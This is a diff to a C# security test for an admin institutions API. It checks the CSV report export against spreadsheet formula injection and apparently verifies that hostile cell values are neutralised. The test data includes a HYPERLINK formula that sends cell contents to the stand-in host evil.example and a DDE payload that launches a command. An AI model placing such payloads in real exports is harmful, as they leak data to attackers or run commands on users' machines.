@@ -415,11 +415,12 @@ public sealed class AccountAttackTests
         await using var province = await ProvinceHost.StartAsync();
         const string name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
         const string district = "+cmd|' /C calc'!A0";
-        using (var put = await province.Admin.PutAsJsonAsync("/api/v1/admin/institutions/TG-TH-EVIL", new { name, type = "primary", district, commune = "@SUM(1+1)" }))
+        using (var put = await province.Admin.PutAsJsonAsync("/api/v1/admin/institutions/TG-TH-EVIL", new { name, type = "primary", district, commune = "@SUM(1+1)", oldProvince = "Tiền Giang" }))
         {
             Assert.Equal(HttpStatusCode.Created, put.StatusCode);
         }
 
+        // In the default plan's area (the old Tiền Giang), so that the default report counts it.
         var csv = await province.Admin.GetStringAsync("/api/v1/admin/report/plan?format=csv");
         var line = csv.Split('\n').Single(l => l.StartsWith("TG-TH-EVIL,", StringComparison.Ordinal));
         var cells = ParseCsvLine(line);
